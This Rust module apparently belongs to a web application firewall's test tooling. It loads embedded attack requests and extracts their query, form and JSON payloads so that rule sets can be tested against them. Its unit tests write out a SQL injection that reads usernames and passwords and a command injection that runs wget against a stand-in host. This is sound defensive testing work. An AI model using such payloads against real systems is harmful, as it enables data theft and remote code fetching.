//! Attacks that come with the executable: what a rule set must refuse, and what an exclusion must not let through.

use include_dir::{Dir, DirEntry, include_dir};
use waf_engine::trial::{self, Request};

static ATTACKS: Dir<'_> = include_dir!("$CARGO_MANIFEST_DIR/../../tests/conformance/attacks");

/// An attack, by kind and name: `sql/union`.
pub(crate) struct Attack {
    pub(crate) name: String,
    pub(crate) request: Request,
}

/// All of them.
pub(crate) fn attacks() -> Vec<Attack> {
    let mut found = Vec::new();
    for entry in ATTACKS.entries() {
        let DirEntry::Dir(kind) = entry else { continue };
        for file in kind.files() {
            if let Some(request) = trial::first_request(file.contents()) {
                found.push(Attack { name: file.path().with_extension("").display().to_string(), request });
            }
        }
    }
    found.sort_by(|a, b| a.name.cmp(&b.name));
    found
}

/// What of an attack an attacker would put somewhere else: the values of its query, its form and its cookies, the strings of its JSON.
pub(crate) fn payloads(attack: &Attack) -> Vec<Vec<u8>> {
    let request = &attack.request;
    let mut found = Vec::new();
    if let Some(question) = request.target.iter().position(|&byte| byte == b'?') {
        pairs(&request.target[question + 1..], &mut found);
    }
    match request.field("content-type").unwrap_or_default() {
        b"application/x-www-form-urlencoded" => pairs(&request.body, &mut found),
        b"application/json" => {
            if let Ok(value) = serde_json::from_slice(&request.body) {
                strings(&value, &mut found);
            }
        }
        _ => {}
    }
    found
}

fn pairs(text: &[u8], found: &mut Vec<Vec<u8>>) {
    for pair in text.split(|&byte| byte == b'&') {
        if let Some(equals) = pair.iter().position(|&byte| byte == b'=') {
            found.push(unescaped(&pair[equals + 1..]));
        }
    }
}

fn strings(value: &serde_json::Value, found: &mut Vec<Vec<u8>>) {
    match value {
        serde_json::Value::String(text) => found.push(text.clone().into_bytes()),
        serde_json::Value::Array(values) => values.iter().for_each(|value| strings(value, found)),
        serde_json::Value::Object(values) => values.values().for_each(|value| strings(value, found)),
        _ => {}
    }
}

/// `%HH` and `+` of a form, decoded.
pub(crate) fn unescaped(text: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(text.len());
    let mut place = 0;
    while let Some(&byte) = text.get(place) {
        let digits = text.get(place + 1..place + 3).and_then(|digits| str::from_utf8(digits).ok());
        match (byte, digits.and_then(|digits| u8::from_str_radix(digits, 16).ok())) {
            (b'%', Some(value)) => {
                out.push(value);
                place += 2;
            }
            (b'+', _) => out.push(b' '),
            _ => out.push(byte),
        }
        place += 1;
    }
    out
}

/// The other way: every byte that is neither letter nor digit.
pub(crate) fn escaped(text: &[u8]) -> Vec<u8> {
    let one = |&byte: &u8| match byte {
        byte if byte.is_ascii_alphanumeric() => vec![byte],
        byte => format!("%{byte:02X}").into_bytes(),
    };
    text.iter().flat_map(one).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn attacks_are_there_and_have_payloads() {
        let attacks = attacks();
        assert!(attacks.len() > 150, "{}", attacks.len());
        let union = attacks.iter().find(|attack| attack.name == "sql/union").unwrap();
        assert_eq!(payloads(union), [b"' UNION SELECT username,password FROM users--".to_vec()]);
        let json = attacks.iter().find(|attack| attack.name == "command/json").unwrap();
        assert_eq!(payloads(json), [b"ls; wget http://evil.example/a".to_vec()]);
    }

    #[test]
    fn escapes_go_both_ways() {
        let all: Vec<u8> = (0..=255).collect();
        assert_eq!(unescaped(&escaped(&all)), all);
        assert_eq!(unescaped(b"a+b%2"), b"a b%2");
    }
}
